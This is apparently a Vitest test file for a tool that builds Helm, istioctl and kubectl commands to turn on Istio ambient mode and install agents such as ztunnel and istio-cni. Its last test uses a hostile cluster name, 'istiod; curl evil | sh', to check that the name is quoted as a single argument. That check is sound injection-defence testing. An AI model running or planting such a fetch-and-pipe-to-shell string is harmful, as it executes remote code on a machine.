import { describe, expect, it } from "vitest";
import type { ControlPlane } from "../../inventory/facts.ts";
import { parseIstioVersion } from "../../inventory/version.ts";
import { RELEASES } from "../data/releases.ts";
import { enableAmbient, installAgent, upgradeTo } from "./install.ts";

const METHODS = ["sail", "legacy-operator", "istioctl", "helm", "managed", "unknown"] as const;

describe("turning ambient support on", () => {
  it("pins the chart's version, so that Helm keeps the defaults of the present one", () => {
    expect(enableAmbient(plane("helm")).command).toBe(
      "helm upgrade istiod istio/istiod --namespace=istio-system --version=1.27.3 --reuse-values --set=profile=ambient",
    );
  });

  it("lets Helm take new defaults where the version is not known", () => {
    expect(enableAmbient({ ...plane("helm"), version: null }).command).toBe(
      "helm upgrade istiod istio/istiod --namespace=istio-system --reset-then-reuse-values --set=profile=ambient",
    );
  });

  it("names the revision and the present settings to istioctl", () => {
    expect(enableAmbient({ ...plane("istioctl"), revision: "1-27" }).command).toBe(
      "istioctl upgrade --filename=istio-operator.yaml --istioNamespace=istio-system --set=profile=ambient --set=revision=1-27",
    );
  });

  it("finds the name of the Istio resource in a revision of the Sail operator", () => {
    const command = (revision: string) => enableAmbient({ ...plane("sail"), revision }).command;
    const patch = `--type=merge '--patch={"spec":{"profile":"ambient"}}'`;
    expect(command("default")).toBe(`kubectl patch istios.sailoperator.io/default ${patch}`);
    expect(command("blue-v1-27-3")).toBe(`kubectl patch istios.sailoperator.io/blue ${patch}`);
  });

  it("proposes no command where a vendor decides", () => {
    expect(enableAmbient(plane("managed")).command).toBeUndefined();
  });
});

describe("installing an agent", () => {
  const wish = {
    component: "istio-cni",
    namespace: "kube-system",
    installed: false,
    platform: "gke",
  } as const;

  it("brings the platform along", () => {
    expect(installAgent(wish, plane("helm")).command).toBe(
      "helm install istio-cni istio/cni --namespace=kube-system --version=1.27.3 --set=profile=ambient --set=global.platform=gke",
    );
  });

  it("writes the resource that the Sail operator waits for", () => {
    const { yaml } = installAgent({ ...wish, component: "ztunnel", platform: null }, plane("sail"));
    expect(yaml).toBe(
      "apiVersion: sailoperator.io/v1\nkind: ZTunnel\nmetadata:\n  name: default\nspec:\n  version: v1.27.3\n  namespace: kube-system\n",
    );
  });
});

describe.each(METHODS)("installed by %s", (method) => {
  it("every proposal reads as a sentence, and no command has a gap to fill", () => {
    const release = RELEASES.at(-1);
    if (release === undefined) throw new Error("The table is empty.");
    const wish = {
      component: "ztunnel",
      namespace: "istio-system",
      installed: true,
      platform: null,
    } as const;
    const remedies = [
      enableAmbient(plane(method)),
      installAgent(wish, plane(method)),
      upgradeTo(plane(method), release),
    ];
    for (const { text, command, yaml } of remedies) {
      expect(text).toMatch(/^[A-Z].*\.$/);
      expect(`${command} ${yaml}`).not.toMatch(/<|null|NaN|\[object/);
    }
  });
});

it("a name of a hostile cluster stays one argument", () => {
  const { command } = enableAmbient({
    ...plane("helm"),
    ref: { ...plane("helm").ref, name: "istiod; curl evil | sh" },
  });
  expect(command).toContain("helm upgrade 'istiod; curl evil | sh' istio/istiod");
});

function plane(installMethod: ControlPlane["installMethod"]): ControlPlane {
  return {
    ref: { group: "apps", kind: "Deployment", namespace: "istio-system", name: "istiod" },
    revision: "default",
    tags: [],
    isDefault: true,
    version: parseIstioVersion("1.27.3-distroless"),
    vendor: null,
    external: false,
    ambient: false,
    env: {},
    installMethod,
  };
}
